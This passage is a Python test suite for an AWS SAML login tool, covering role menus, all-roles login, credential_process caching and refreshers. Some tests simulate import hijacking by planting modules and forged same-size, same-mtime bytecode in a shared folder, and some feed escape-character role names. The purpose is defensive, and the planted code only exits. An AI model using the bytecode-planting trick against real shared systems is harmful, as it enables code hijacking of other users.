            aws_login._check_role_name("arn:aws:iam::1:role/X")
        for bad in ("", "  ", "Ad\nmin", "Ad\x1bmin", "a" * 1025):
            with self.assertRaises(aws_login.UsageError):
                aws_login._check_role_name(bad)
        self.assertEqual(aws_login._check_role_name("a" * 1024), "a" * 1024)

    def test_the_menu_marks_the_last_role(self):
        lines, ordered = aws_login._role_menu(self.ROLES[:3], last=READONLY.lower())
        self.assertEqual(lines[1:], ["    Account: %s" % ACCOUNT_A, "        [ 0 ]: Admin",
                                     "        [ 1 ]: team/Dev", "    Account: %s" % ACCOUNT_B,
                                     "        [ 2 ]: ReadOnly (last chosen)"])
        self.assertEqual(aws_login._role_menu(self.ROLES[:3])[0],
                         aws_login._role_menu(self.ROLES[:3], last=ADMIN_B)[0])


class RoleChoiceTest(LoginTestCase):
    """`login --role` and the menu's default, with bob (three roles) on the terminal."""

    def setUp(self):
        LoginTestCase.setUp(self)
        self.configure(username="bob", factor="auto", password="bob-pass")
        self.last_file = os.path.join(self.home, ".aws-login", "role", "default")

    def test_login_role_takes_every_form(self):
        self.write(os.path.join(self.home, ".aws-login", "alias"),
                   "[accounts]\n%s = Staging\n" % ACCOUNT_B)
        for flag, wanted, arn in [("--role", "readonly", READONLY),
                                  ("--role", "%s/TEAM/dev" % ACCOUNT_A, DEV),
                                  ("--role", "staging/READONLY", READONLY),
                                  ("--role", "Admin", ADMIN),
                                  ("--role-arn", DEV.lower(), DEV),
                                  ("--role-arn", "dev", DEV)]:
            run = self.tool(["login", flag, wanted], terminal=False)
            self.assert_logged_in(run, arn)
        self.assertNotIn("Selection", run.tty)

    def test_ambiguous_or_unknown_exit_6_in_one_line_and_write_nothing(self):
        self.idp.users["bob"]["roles"].append(PROVIDER_B + "," + ADMIN_B)
        run = self.tool(["login", "--role", "admin"])
        self.assert_nothing_written(run, 6)
        self.assertIn("role admin is ambiguous: it names %s, %s" % (ADMIN, ADMIN_B), run.stderr)
        self.assertEqual(self.sts.requests, [])
        run = self.tool(["login", "--role", "Nope"])
        self.assert_nothing_written(run, 6)
        self.assertIn("the IdP does not offer role Nope; it offers: %s, %s, %s, %s"
                      % (ADMIN, READONLY, DEV, ADMIN_B), run.stderr)
        asked = len(self.idp.requests)
        run = self.tool(["login", "--role", "Ad\x1bmin"], terminal=False)
        self.assert_nothing_written(run, 2)
        self.assertIn("'Ad\\x1bmin'", run.stderr)
        self.assertEqual(len(self.idp.requests), asked)

    def test_the_menu_offers_the_role_chosen_last_time(self):
        run = self.tool(["login"], [("Selection: ", ""), ("Selection: ", "2")])
        self.assert_logged_in(run, READONLY)
        self.assertIn("Please enter a number from 0 to 2.", run.tty)     # no default yet
        self.assertNotIn("last chosen", run.tty)
        self.assertEqual(self.read(self.last_file), READONLY + "\n")
        self.assertEqual(os.stat(self.last_file).st_mode & 0o777, 0o600)
        self.assertEqual(os.stat(os.path.dirname(self.last_file)).st_mode & 0o777, 0o700)
        run = self.tool(["login"], [("Selection [2]: ", "")])
        self.assert_logged_in(run, READONLY)
        self.assertIn("        [ 2 ]: ReadOnly (last chosen)\r\n", run.tty)
        self.assertEqual(run.tty.count("last chosen"), 1)
        self.assertNotIn("Please enter", run.tty)
        run = self.tool(["login"], [("Selection [2]: ", "x"), ("Selection [2]: ", "1")])
        self.assert_logged_in(run, DEV)
        self.assertIn("Please enter a number from 0 to 2.", run.tty)
        self.assertEqual(self.read(self.last_file), DEV + "\n")
        run = self.tool(["login"], [("Selection [1]: ", "")])
        self.assert_logged_in(run, DEV)
        # --role is a choice too; another profile has a default of its own
        self.assert_logged_in(self.tool(["login", "--role", "admin"]), ADMIN)
        self.assert_logged_in(self.tool(["login"], [("Selection [0]: ", "")]), ADMIN)
        self.configure("other", username="bob", factor="auto", password="bob-pass")
        run = self.tool(["--profile", "other", "login"], [("Selection: ", "2")])
        self.assert_logged_in(run, READONLY, profile="other")
        self.assertEqual(self.read(self.last_file), ADMIN + "\n")

    def test_a_configured_role_or_a_role_no_longer_offered_sets_no_default(self):
        self.configure("cfg", username="bob", factor="auto", password="bob-pass", role_arn=DEV)
        self.assert_logged_in(self.tool(["--profile", "cfg", "login"]), DEV, profile="cfg")
        self.assertFalse(os.path.exists(os.path.join(self.home, ".aws-login", "role", "cfg")))
        self.write(self.last_file, ADMIN_B + "\n")
        run = self.tool(["login"], [("Selection: ", "0")])
        self.assert_logged_in(run, ADMIN)
        self.assertNotIn("last chosen", run.tty)
        self.write(self.last_file, "not an arn\n")
        self.assert_logged_in(self.tool(["login"], [("Selection: ", "1")]), DEV)


class AllRolesTest(LoginTestCase):
    """`login --all-roles`: one IdP login, every role to a profile of its own."""

    NAMES = ["default-%s-Admin" % ACCOUNT_A, "default-Staging-ReadOnly",
             "default-%s-team-Dev" % ACCOUNT_A]

    def setUp(self):
        LoginTestCase.setUp(self)
        self.configure(username="bob", factor="auto", password="bob-pass")
        self.write(os.path.join(self.home, ".aws-login", "alias"),
                   "[accounts]\n%s = Staging\n" % ACCOUNT_B)

    def sections(self):
        parser = aws_login._parse_ini(self.read(self.credentials_file), "c", "\x00")
        return parser.sections()

    def assert_each_written(self, names=NAMES, roles=(ADMIN, READONLY, DEV)):
        issued = dict((c["AccessKeyId"], c) for c in self.sts.issued)
        for name, role in zip(names, roles):
            section = self.credentials(name)
            self.assertEqual(section["aws_login_role_arn"], role, name)
            self.assertEqual(section["aws_session_token"],
                             issued[section["aws_access_key_id"]]["SessionToken"])
            self.assertIn("/%s/" % role.rsplit("/", 1)[1],
                          issued[section["aws_access_key_id"]]["Arn"])

    def test_one_login_writes_every_role_listed_by_status_removed_by_logout(self):
        run = self.tool(["login", "--all-roles"], terminal=False)
        self.assertEqual((run.code, run.stdout), (0, ""), run)
        self.assertEqual(self.idp.logins, [("bob", "password")])
        forms = [r["form"] for r in self.sts.requests]
        self.assertEqual([f["RoleArn"] for f in forms], [ADMIN, READONLY, DEV])
        self.assertEqual(len(set(f["SAMLAssertion"] for f in forms)), 1)
        self.assertEqual(self.sections(), self.NAMES)          # not [default] itself
        self.assert_each_written()
        for name in self.NAMES:
            self.assertIn("Logged in as ", run.stderr)
            self.assertIn("(profile %s)" % name, run.stderr)
        rows = json.loads(self.tool(["status", "--output", "json"], terminal=False).stdout)
        self.assertEqual([(r["profile"], r["logged_in"], r["role_arn"]) for r in rows],
                         [("default", False, None)] + [
                             (n, True, a) for n, a in zip(self.NAMES, (ADMIN, READONLY, DEV))])
        table = self.tool(["status"], terminal=False).stdout
        self.assertIn("default-Staging-ReadOnly", table)
        whoami = json.loads(self.tool(["--profile", self.NAMES[1], "whoami", "--output",
                                       "json"], terminal=False).stdout)
        self.assertEqual(whoami["Account"], ACCOUNT_B)
        # one written profile alone, then the rest with the profile that wrote them
        run = self.tool(["--profile", self.NAMES[2], "logout"], terminal=False)
        self.assertEqual(run.code, 0, run)
        self.assertEqual(self.sections(), self.NAMES[:2])
        run = self.tool(["logout"], terminal=False)
        self.assertEqual(run.code, 0, run)
        self.assertEqual(self.sections(), [])
        for name in self.NAMES[:2]:
            self.assertIn("Logged out of profile %s." % name, run.stderr)
        rows = json.loads(self.tool(["status", "--output", "json"], terminal=False).stdout)
        self.assertEqual([r["profile"] for r in rows], ["default"])

    def test_the_pattern_is_all_roles_profile(self):
        self.configure(username="bob", factor="auto", password="bob-pass",
                       all_roles_profile="{account}.{role}")
        self.assertEqual(self.tool(["login", "--all-roles"], terminal=False).code, 0)
        self.assertEqual(self.sections(), ["%s.Admin" % ACCOUNT_A, "Staging.ReadOnly",
                                           "%s.team-Dev" % ACCOUNT_A])
        for bad in ("{account}", "{profile}-{nope}-{role}", "{role"):
            run = self.tool(["configure", "--all-roles-profile", bad], terminal=False)
            self.assertEqual(run.code, 3, run)
            self.assertIn("all_roles_profile", run.stderr)

    def test_a_short_lived_assertion_is_fetched_again_not_sent_stale(self):
        self.idp.assertion_lifetime = 20        # under the margin kept for each STS call
        run = self.tool(["login", "--all-roles"], terminal=False)
        self.assertEqual(run.code, 0, run)
        self.assertEqual(self.idp.logins, [("bob", "password"), ("bob", "session"),
                                           ("bob", "session")])
        self.assertEqual(len(set(r["form"]["SAMLAssertion"] for r in self.sts.requests)), 3)
        self.assert_each_written()

    def test_a_role_sts_refuses_is_said_and_the_others_written(self):
        self.sts.queue.append(sts_error("AccessDenied", "Not authorized to perform "
                                        "sts:AssumeRoleWithSAML", status=403))
        run = self.tool(["login", "--all-roles"], terminal=False)
        self.assertEqual(run.code, 0, run)
        self.assertIn("warning: role Admin (account %s): STS refused AssumeRoleWithSAML: "
                      "AccessDenied" % ACCOUNT_A, run.stderr)
        self.assertEqual(self.sections(), self.NAMES[1:])
        self.sts.queue.extend([sts_error("AccessDenied", "no", status=403)] * 3)
        run = self.tool(["login", "--all-roles"], terminal=False)
        self.assertEqual(run.code, 7, run)

    def test_one_refresher_renews_every_role_with_one_idp_login(self):
        self.assertEqual(self.tool(["login", "--all-roles"], terminal=False).code, 0)
        job = aws_login._RefresherJob(ADMIN, 0, 1, all_roles=[
            [n, a] for n, a in zip(self.NAMES, (ADMIN, READONLY, DEV))])
        refresher = aws_login._Refresher("default", job)
        del self.sts.requests[:], self.idp.logins[:]
        self.assertIsNotNone(refresher.step())
        self.assertEqual(self.idp.logins, [("bob", "session")])
        self.assertEqual([r["form"]["RoleArn"] for r in self.sts.requests],
                         [ADMIN, READONLY, DEV])
        self.assert_each_written()
        # a profile logged out is left alone; none left, the refresher stops
        self.assertEqual(self.tool(["--profile", self.NAMES[0], "logout"],
                                   terminal=False).code, 0)
        refresher.schedule.next_at = 0
        del self.sts.requests[:]
        self.assertIsNotNone(refresher.step())
        self.assertEqual([r["form"]["RoleArn"] for r in self.sts.requests], [READONLY, DEV])
        self.assertEqual(self.sections(), self.NAMES[1:])
        for name in self.NAMES[1:]:
            self.assertEqual(self.tool(["--profile", name, "logout"], terminal=False).code, 0)
        self.assertIsNone(refresher.step())

    def test_login_starts_one_refresher_for_them_all(self):
        self.configure(username="bob", factor="auto", password="bob-pass", refresh="true")
        run = self.tool(["login", "--all-roles"], terminal=False)
        self.assertEqual(run.code, 0, run)
        self.assertRegex(run.stderr, r"A refresher \(pid \d+\) renews them all\.\n$")
        rows = json.loads(self.tool(["status", "--output", "json"], terminal=False).stdout)
        self.assertTrue(all(r["refresher_alive"] for r in rows), rows)
        self.assertEqual(len(set(r["refresher_pid"] for r in rows)), 1)

    def test_the_python_api(self):
        written = aws_login.login_all_roles("default", interactive=False)
        self.assertEqual([(name, role.arn) for name, _, role in written],
                         list(zip(self.NAMES, (ADMIN, READONLY, DEV))))
        self.assertEqual(written[0][1].access_key_id,
                         self.credentials(self.NAMES[0])["aws_access_key_id"])
        self.assertEqual(len(self.idp.logins), 1)


# ---------------------------------------------------------------------------
# Starting ourselves again: the bootstrap of the refresher and credential_process
# ---------------------------------------------------------------------------

class BootstrapTest(HomeTestCase):
    """The command configure writes (and the refresher's interpreter) loads our
    file by its path, with bytecode nobody else could have planted."""

    def shared_copy(self):
        """aws_login.py in a sticky folder everyone can write to, like /tmp."""
        folder = os.path.join(self.home, "shared")
        os.mkdir(folder)
        os.chmod(folder, 0o1777)
        copy = os.path.join(folder, "aws_login.py")
        shutil.copy(SCRIPT, copy)
        return folder, copy

    def plant(self, folder, copy):
        """What another user could leave there: a package and a module that win
        an import by name, and bytecode whose header matches our file's."""
        self.write(os.path.join(folder, "aws_login", "__init__.py"), "import sys; sys.exit(97)\n")
        self.write(os.path.join(folder, "argparse.py"), "import sys; sys.exit(98)\n")
        st = os.stat(copy)
        with open(copy, "rb") as f:
            real = f.read()
        evil = b"import sys; sys.exit(99)\n"
        evil += b"#" * (len(real) - len(evil) - 1) + b"\n"       # the same size...
        try:
            with open(copy, "wb") as f:
                f.write(evil)
            os.utime(copy, (st.st_atime, st.st_mtime))          # ...and the same mtime
            import importlib.util
            import py_compile
            py_compile.compile(copy, cfile=importlib.util.cache_from_source(copy),
                               doraise=True)
        finally:
            with open(copy, "wb") as f:
                f.write(real)
            os.utime(copy, (st.st_atime, st.st_mtime))
        os.chmod(os.path.join(folder, "__pycache__"), 0o777)

    def configured_command(self, copy):
        run = run_tool(["configure", "--ecp-endpoint-url", "https://idp.example.edu/ecp",
                        "--credential-process"], env=dict(os.environ), terminal=False,
                       argv_prefix=[sys.executable, copy])
        self.assertEqual(run.code, 0, run)
        import configparser
        import shlex
        parser = configparser.RawConfigParser()
        parser.read(os.environ["AWS_CONFIG_FILE"])
        return shlex.split(parser.get("default", "credential_process"))

    def test_planted_bytecode_packages_and_modules_are_never_loaded(self):
        folder, copy = self.shared_copy()
        command = self.configured_command(copy)
        self.plant(folder, copy)
        # Proof that the planted files would win a plain import by name:
        plain = subprocess.run([sys.executable, "-c", "import aws_login"], cwd=folder,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        self.assertEqual(plain.returncode, 97)
        aws_login._ProcessStore("default").write(_fake_credentials(), ADMIN)
        for cwd in (folder, self.home):
            proc = subprocess.run(command, cwd=cwd, env=dict(os.environ),
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE)
            self.assertEqual(proc.returncode, 0, proc.stderr)
            self.assertEqual(json.loads(proc.stdout.decode())["Version"], 1)
            # argparse is loaded when the cache cannot answer: from the stdlib only.
            proc = subprocess.run(command[:-1] + ["--help"], cwd=cwd, env=dict(os.environ),
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE)
            self.assertEqual(proc.returncode, 0, proc.stderr)
            self.assertIn(b"usage:", proc.stdout)

    def test_bytecode_lives_in_our_own_folder(self):
        folder, copy = self.shared_copy()
        command = self.configured_command(copy)
        self.assertNotIn(" -c import aws_login", " ".join(command))
        if sys.version_info >= (3, 8):
            cache = os.path.join(self.home, ".aws-login", "pycache")
            self.assertEqual(os.stat(cache).st_mode & 0o777, 0o700)
            compiled = [n for _, _, names in os.walk(cache) for n in names]
            self.assertTrue(any(n.startswith("aws_login.") and n.endswith(".pyc")
                                for n in compiled), compiled)
        self.assertFalse(os.path.exists(os.path.join(folder, "__pycache__")))


class IsolatedStartTest(LoginTestCase):
    """The configured command starts at the interpreter's floor (-I -S) and
    starts again normally when a renewal may need site-packages."""
    SLOW = True         # waits on real time: the runner starts it first

    HEAVY = ("ssl", "urllib.request", "xml", "http.cookiejar", "argparse")

    def setUp(self):
        LoginTestCase.setUp(self)
        # A Python whose site-packages hold `keyring` (our stand-in), as pip puts it.
        self.venv = os.path.join(self.home, "venv")
        subprocess.check_call([sys.executable, "-m", "venv", "--without-pip", self.venv])
        self.python = os.path.join(self.venv, "bin", "python")
        site = subprocess.check_output([self.python, "-c", "import sysconfig;print("
                                        "sysconfig.get_paths()['purelib'])"]).decode().strip()
        self.write(os.path.join(site, "keyring.py"), FakeKeyring.SOURCE)
        self.keyring = os.path.join(self.home, "keyring.json")
        os.environ["FAKE_KEYRING_FILE"] = self.keyring
        with open(self.keyring, "w") as f:
            json.dump({"awscli_login alice@" + self.idp.host_port: PASSWORD}, f)
        self.configure(username="alice", factor="auto", enable_keyring="true")
        self.aws_config = os.environ["AWS_CONFIG_FILE"]

    def configured_command(self):
        import configparser
        import shlex
        parser = configparser.RawConfigParser()
        parser.read(self.aws_config)
        return shlex.split(parser.get("default", "credential_process"))

    def serve(self, command, extra_env=None):
        return subprocess.run(command, env=dict(os.environ, **(extra_env or {})),
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE)

    def test_renews_with_keyring_from_site_packages_then_serves_at_the_floor(self):
        run = run_tool(["configure", "--credential-process"], env=dict(os.environ),
                       terminal=False, argv_prefix=[self.python, SCRIPT])
        self.assertEqual(run.code, 0, run)
        command = self.configured_command()
        self.assertEqual(command[:4], [self.python, "-I", "-S", "-c"])
        # No cache: the isolated start cannot import keyring, so it starts again
        # normally, and the keyring's password logs in.
        first = self.serve(command)
        self.assertEqual(first.returncode, 0, first.stderr)
        self.assertEqual(json.loads(first.stdout.decode())["AccessKeyId"],
                         self.sts.issued[-1]["AccessKeyId"])
        self.assertEqual(_parse_basic(self.idp.requests[-1]["authorization"]),
                         ("alice", PASSWORD))
        requests = len(self.idp.requests) + len(self.sts.requests)
        # Cached: served by the isolated interpreter, with no heavy module and no
        # PYTHON* variable obeyed (a planted json.py on PYTHONPATH is ignored).
        trap = os.path.join(self.home, "trap")
        for module in self.HEAVY + ("json",):
            self.write(os.path.join(trap, module.split(".")[0] + ".py"), "raise SystemExit(99)\n")
        timed = [command[0], "-X", "importtime"] + command[1:]
        second = self.serve(timed, {"PYTHONPATH": trap})
        self.assertEqual(second.returncode, 0, second.stderr)
        self.assertEqual(second.stdout, first.stdout)
        self.assertEqual(len(self.idp.requests) + len(self.sts.requests), requests)
        imported = re.findall(r"import time:\s+\d+ \|\s+\d+ \|\s*(\S+)", second.stderr.decode())
        self.assertTrue(imported or sys.version_info < (3, 7), second.stderr)  # -X importtime
        for module in imported:
            self.assertNotIn(module.split(".")[0], [h.split(".")[0] for h in self.HEAVY])
        self.assertNotIn("site", imported)

    def test_the_quick_answer_serves_only_what_read_cache_would(self):
        run = run_tool(["configure", "--credential-process"], env=dict(os.environ),
                       terminal=False, argv_prefix=[self.python, SCRIPT])
        self.assertEqual(run.code, 0, run)
        command = self.configured_command()
        cache = os.path.join(self.home, ".aws-login", "cache", "default")
        fresh = aws_login._credential_process_json(_fake_credentials(1))
        expires = int(time.time() + 3600)       # once: a second may pass before the replace
        good = "%s\nexpires %d\nrole %s\n%s\n" % (aws_login._CACHE_HEADER, expires, ADMIN, fresh)
        self.write(cache, good)
        self.assertEqual(self.serve(command).stdout.decode(), fresh + "\n")
        self.assertEqual(self.idp.requests, [])
        for name, text, owner in (
                ("stale", good.replace("expires %d" % expires,
                                       "expires %d" % (time.time() + 60)), None),
                ("another header", good.replace("cache 1", "cache 2"), None),
                ("not a number", good.replace("expires ", "expires x"), None),
                ("another user's", good, 4242)):
            if owner and os.getuid() != 0:
                continue
            self.write(cache, text)
            if owner:
                os.chown(cache, owner, owner)
            run = self.serve(command)
            self.assertNotEqual(run.stdout.decode(), fresh + "\n", name)
            self.assertNotIn(fresh, run.stdout.decode(), name)
            if owner:
                os.chown(cache, 0, 0)

    def test_the_isolated_refresher_renews_with_keyring_from_site_packages(self):
        self.sts.clock = lambda: time.time() - 3600 + 8      # 8-second credentials
        self.configure(refresh="true")
        run = run_tool(["login"], env=dict(os.environ), terminal=False,
                       argv_prefix=[self.python, SCRIPT])
        self.assertEqual(run.code, 0, run)
        pid = int(re.search(r"A refresher \(pid (\d+)\)", run.stderr).group(1))
        self.addCleanup(self.reap_refreshers)
        def cmdline():
            with open("/proc/%d/cmdline" % pid, "rb") as f:
                return f.read().split(b"\0")
        # it reports its pid, then starts the small interpreter: sleeps isolated
        self.assertTrue(_wait_for(lambda: cmdline()[1:3] == [b"-I", b"-S"], 10), cmdline())
        self.idp.expire_sessions()          # the renewal needs the keyring's password
        first = self.credentials()["aws_access_key_id"]
        log = os.path.join(self.home, ".aws-login", "log", "default.log")
        self.assertTrue(_wait_for(lambda: self.credentials()["aws_access_key_id"] != first, 15),
                        self.read(log))
        self.assertEqual(self.idp.logins[-1], ("alice", "password"))
        self.assertEqual(_parse_basic(self.idp.requests[-1]["authorization"]),
                         ("alice", PASSWORD))

    def test_an_older_line_keeps_working_and_configure_upgrades_it(self):
        old = ("%s -c 'import sys;sys.path[0]=%s;import aws_login as m;sys.exit(m.main())' "
               "--profile default credential-process" % (self.python, json.dumps(HERE)))
        self.write(self.aws_config, "[default]\nregion = eu-west-1\ncredential_process = %s\n"
                   % old)
        import shlex
        served = self.serve(shlex.split(old))
        self.assertEqual(served.returncode, 0, served.stderr)
        self.assertEqual(json.loads(served.stdout.decode())["Version"], 1)
        run = run_tool(["configure", "--region", "eu-west-1"], env=dict(os.environ),
                       terminal=False, argv_prefix=[self.python, SCRIPT])
        self.assertEqual(run.code, 0, run)
        command = self.configured_command()
        self.assertEqual(command[1:3], ["-I", "-S"])
        self.assertTrue(self.read(self.aws_config).startswith("[default]\nregion = eu-west-1\n"
                                                              "credential_process = "))
        again = self.serve(command)
        self.assertEqual(again.returncode, 0, again.stderr)
        self.assertEqual(again.stdout, served.stdout)       # the same cache, no new login


def _core_soft_limit(pid="self"):
    with open("/proc/%s/limits" % pid) as f:
        for line in f:
            if line.startswith("Max core file size"):
                return line.split()[4]


@unittest.skipUnless(os.path.exists("/proc/self/limits"), "needs /proc")
class CoreDumpTest(LoginTestCase):
    """A core dump would hold the password or the keys: our processes make none."""

    def setUp(self):
        LoginTestCase.setUp(self)
        import resource
        soft, hard = resource.getrlimit(resource.RLIMIT_CORE)
        if hard != resource.RLIM_INFINITY and hard < 1 << 20:
            self.skipTest("the hard core limit is too low to tell")
        resource.setrlimit(resource.RLIMIT_CORE, (1 << 20, hard))   # what we start with
        self.addCleanup(resource.setrlimit, resource.RLIMIT_CORE, (soft, hard))
        self.configure(username="alice", factor="auto")

    def test_login_and_its_refresher_make_no_core_dumps(self):
        self.configure(refresh="true")
        proc = subprocess.Popen([sys.executable, SCRIPT, "login", "--password-stdin"],
                                stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE)
        try:
            # It waits for the password on stdin, holding nothing yet but its limit.
            self.assertTrue(_wait_for(lambda: _core_soft_limit(proc.pid) == "0", 10),
                            _core_soft_limit(proc.pid))
        finally:
            out, err = proc.communicate((PASSWORD + "\n").encode(), timeout=30)
        self.assertEqual(proc.returncode, 0, err)
        pid = int(re.search(r"A refresher \(pid (\d+)\)", err.decode()).group(1))
        self.assertTrue(_wait_for(lambda: _core_soft_limit(pid) == "0", 10))
        self.assertEqual(_core_soft_limit(), str(1 << 20))     # ours, not changed

    def test_exec_gives_the_command_the_limit_it_had(self):
        self.configure(password=PASSWORD)
        run = self.tool(["exec", "--", "cat", "/proc/self/limits"], terminal=False)
        self.assertEqual(run.code, 0, run)
        line = [l for l in run.stdout.splitlines() if l.startswith("Max core file size")][0]
        self.assertEqual(line.split()[4], str(1 << 20))


# ---------------------------------------------------------------------------
# Modes: the shared credentials file, or credential_process and its cache
# ---------------------------------------------------------------------------

class CredentialProcessTest(LoginTestCase):
    AWS_CONFIG = "# my AWS config\r\n[default]\r\nregion = eu-west-1\r\n\r\n[profile x]\r\noutput=json\r\n"

    def setUp(self):
        LoginTestCase.setUp(self)
        self.aws_config = os.environ["AWS_CONFIG_FILE"]
        self.write(self.aws_config, self.AWS_CONFIG)
        self.configure(username="alice", factor="auto", password=PASSWORD)
        run = self.tool(["configure", "--credential-process"], terminal=False)
        self.assertEqual(run.code, 0, run)
        self.assertIn("Mode: process", run.stderr)

    def command(self):
        import configparser
        parser = configparser.RawConfigParser()
        parser.read_string(self.read(self.aws_config))
        import shlex
        return shlex.split(parser.get("default", "credential_process"))

    def serve(self, terminal=False, answers=()):
        """Run the configured command as botocore does: split, no shell, stdin inherited."""
        command = self.command()
        return run_tool(command[1:], answers, env=dict(os.environ), terminal=terminal,
                        argv_prefix=command[:1])

    @readme_route
    def test_configure_edits_only_that_line(self):
        text = self.read(self.aws_config)
        line = [l for l in text.split("\r\n") if l.startswith("credential_process")][0]
        self.assertEqual(text, self.AWS_CONFIG.replace(
            "region = eu-west-1\r\n", "region = eu-west-1\r\n" + line + "\r\n"))
        self.assertIn("credential-process", line)
        self.assertIn("SourceFileLoader", line)     # cached bytecode, by its path
        self.assertIn(" -I -S -c ", line)          # the interpreter's floor
        self.assertIn(json.dumps(SCRIPT), line)

    def test_output_matches_the_contract_exactly(self):
        run = self.serve()
        self.assertEqual(run.code, 0, run)
        data = json.loads(run.stdout)
        self.assertEqual(sorted(data), ["AccessKeyId", "Expiration", "SecretAccessKey",
                                        "SessionToken", "Version"])
        self.assertIs(type(data["Version"]), int)
        self.assertEqual(data["Version"], 1)
        self.assertRegex(data["Expiration"], r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$")
        self.assertGreater(aws_login._parse_timestamp(data["Expiration"]).timestamp(),
                           time.time() + 3000)
        issued = self.sts.issued[-1]
        self.assertEqual((data["AccessKeyId"], data["SecretAccessKey"], data["SessionToken"]),
                         (issued["AccessKeyId"], issued["SecretAccessKey"],
                          issued["SessionToken"]))
        self.assertFalse(os.path.exists(self.credentials_file))    # nothing to shadow it
        cache = os.path.join(self.home, ".aws-login", "cache", "default")
        self.assertEqual(os.stat(cache).st_mode & 0o777, 0o600)
        self.assertEqual(run.stderr, "")

    def test_a_module_in_the_current_folder_is_never_imported(self):
        trap = os.path.join(self.home, "trap")
        for module in ("argparse", "json", "ssl", "aws_login"):
            self.write(os.path.join(trap, module + ".py"), "import sys; sys.exit(99)\n")
        command = self.command()
        proc = subprocess.run(command, cwd=trap, env=dict(os.environ), stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE)
        self.assertEqual(proc.returncode, 0, proc.stderr)
        self.assertEqual(json.loads(proc.stdout.decode())["Version"], 1)

    def test_parallel_calls_renew_once(self):
        command = self.command()
        procs = [subprocess.Popen(command, env=dict(os.environ), stdout=subprocess.PIPE,
                                  stderr=subprocess.PIPE) for _ in range(6)]
        outputs = [p.communicate()[0] for p in procs]
        self.assertEqual([p.returncode for p in procs], [0] * 6)
        self.assertEqual(len(set(outputs)), 1)
        self.assertEqual(len(self.sts.requests), 1)

    def test_cached_credentials_need_no_network(self):
        first = self.serve()
        self.idp.stop()
        self.sts.stop()
        second = self.serve()
        self.assertEqual((second.code, second.stdout), (0, first.stdout))

    def test_under_15_minutes_left_renews_through_the_idp_session(self):
        self.sts.clock = lambda: time.time() - 3600 + 14 * 60
        first = self.serve()
        second = self.serve()
        self.assertEqual(second.code, 0, second)
        self.assertNotEqual(json.loads(first.stdout)["AccessKeyId"],
                            json.loads(second.stdout)["AccessKeyId"])
        self.assertEqual(self.idp.logins, [("alice", "password"), ("alice", "session")])

    def test_needs_a_person_without_terminal_fails_in_one_line(self):
        self.configure(username="alice", factor="auto", password=None)
        run = self.serve()
        self.assertEqual((run.code, run.stdout), (11, ""))
        self.assertEqual(len(run.stderr.strip().splitlines()), 1, run.stderr)
        self.assertIn("no password is stored", run.stderr)

    def test_needs_a_person_with_a_terminal_asks_there(self):
        self.configure(username="alice", factor="auto", password=None)
        run = self.serve(terminal=True, answers=[("Password: ", PASSWORD)])
        self.assertEqual(run.code, 0, run)
        self.assertEqual(json.loads(run.stdout)["AccessKeyId"], self.sts.issued[-1]["AccessKeyId"])
        self.assertNotIn(PASSWORD, run.stdout + run.stderr + run.tty)

    def test_logout_keeps_the_aws_cli_out_until_the_next_login(self):
        self.assertEqual(self.serve().code, 0)
        run = self.tool(["logout"], terminal=False)
        self.assertEqual((run.code, run.stderr), (0, "Logged out of profile default.\n"))
        run = self.serve()           # the IdP session is still alive: no quiet login
        self.assertEqual((run.code, run.stdout), (10, ""))
        self.assertIn("logged out", run.stderr)
        self.assertEqual(self.tool(["logout"], terminal=False).code, 10)
        self.assertEqual(self.tool(["login"], terminal=False).code, 0)
        self.assertEqual(self.serve().code, 0)

    def test_login_fills_the_cache_and_starts_no_refresher(self):
        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
        run = self.tool(["login"], terminal=False)
        self.assertEqual(run.code, 0, run)
        self.assertNotIn("refresher", run.stderr)
        self.assertFalse(os.path.exists(self.credentials_file))
        self.idp.stop()
        self.assertEqual(json.loads(self.serve().stdout)["AccessKeyId"],
                         self.sts.issued[-1]["AccessKeyId"])

    @slow
    def test_switching_modes_cleans_up_after_the_old_one(self):
        self.serve()
        run = self.tool(["configure", "--credential-process", "false"], terminal=False)
        self.assertEqual(run.code, 0, run)
        self.assertIn("Mode: file", run.stderr)
        self.assertEqual(self.read(self.aws_config), self.AWS_CONFIG)
        self.assertFalse(os.path.exists(os.path.join(self.home, ".aws-login", "cache",
                                                     "default")))
        self.assertEqual(self.tool(["--profile", "new", "configure", "--credential-process"],
                                   terminal=False).code, 0)
        self.assertEqual(self.tool(["--profile", "new", "configure", "--credential-process",
                                    "false"], terminal=False).code, 0)
        self.assertEqual(self.read(self.aws_config), self.AWS_CONFIG)     # no empty header
        self.assert_logged_in(self.tool(["login"], terminal=False))
        run = self.tool(["configure", "--credential-process"], terminal=False)
        self.assertIsNone(self.credentials())
        self.write(self.credentials_file, "[default]\naws_access_key_id = AKIA\n"
                   "aws_secret_access_key = x\n")
        run = self.tool(["configure", "--credential-process"], terminal=False)
        self.assertIn("shadow", run.stderr)

    def test_new_settings_drop_the_cache_made_with_the_old_but_keep_a_logout(self):
        store = aws_login._ProcessStore("default")
        for option, value in (("--role-arn", DEV), ("--username", "bob"),
                              ("--ecp-endpoint-url", self.idp.url), ("--chain-role-arn", READONLY)):
            store.write(_fake_credentials(1), ADMIN)
            self.assertEqual(self.tool(["configure", option, value], terminal=False).code, 0)
            self.assertFalse(os.path.exists(store.path), option)
        store.write(_fake_credentials(1), ADMIN)
        self.assertEqual(self.tool(["configure", "--duration", "3600"], terminal=False).code, 0)
        self.assertIsNotNone(store.cached())        # the same role, user and IdP: still good
        self.assertEqual(self.tool(["logout"], terminal=False).code, 0)
        self.assertEqual(self.tool(["configure", "--role-arn", DEV], terminal=False).code, 0)
        self.assertTrue(store.logged_out())         # logged out stays out

    @unittest.skipUnless(os.getuid() == 0, "needs root to make a file another user's")
    def test_a_cache_another_user_owns_is_never_read(self):
        aws_login._ProcessStore("default").write(_fake_credentials(1), ADMIN)
        self.assertIsNotNone(aws_login._ProcessStore("default").cached())
        os.chown(aws_login._ProcessStore("default").path, 4242, 4242)
        self.assertIsNone(aws_login._ProcessStore("default").cached())
        run = self.tool(["credential-process"], terminal=False)
        self.assertNotIn(_fake_credentials(1).secret_access_key, run.stdout)


# ---------------------------------------------------------------------------
